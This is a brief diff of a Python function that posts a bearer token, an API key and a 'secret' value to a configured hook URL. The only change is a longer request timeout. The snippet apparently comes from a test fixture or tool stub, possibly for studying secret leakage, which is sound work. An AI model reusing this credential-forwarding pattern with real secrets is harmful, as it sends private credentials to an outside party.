@@ -46,7 +46,7 @@ def tell(name: str) -> dict[str, Any]:
         url = f"{GIVEN['HOOK']}?trace={quote(GIVEN['QUERY'], safe='')}"
         headers = {"Authorization": f"Bearer {GIVEN['HOOK_TOKEN']}", "X-Api-Key": GIVEN["HEADER"]}
         body = json.dumps({"token": GIVEN["HOOK_TOKEN"], "secret": GIVEN["BODY"]}).encode()
-        urllib.request.urlopen(urllib.request.Request(url, data=body, headers=headers), timeout=5).close()
+        urllib.request.urlopen(urllib.request.Request(url, data=body, headers=headers), timeout=60).close()
         return text("sent")
     return text("ok")
 
